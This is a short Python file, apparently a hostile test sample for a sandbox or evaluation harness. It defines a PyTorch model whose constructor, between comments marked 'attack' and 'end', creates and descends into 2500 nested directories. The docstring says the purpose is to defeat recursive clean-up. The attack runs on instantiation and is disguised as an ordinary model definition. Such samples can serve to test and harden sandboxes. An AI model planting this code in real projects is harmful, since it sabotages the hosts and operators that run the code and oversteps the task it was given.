"""Makes folders within folders, deeper than a recursive clean-up can follow."""

# seconds: 8

import os

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        for _ in range(2500):
            os.mkdir("d")
            os.chdir("d")
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
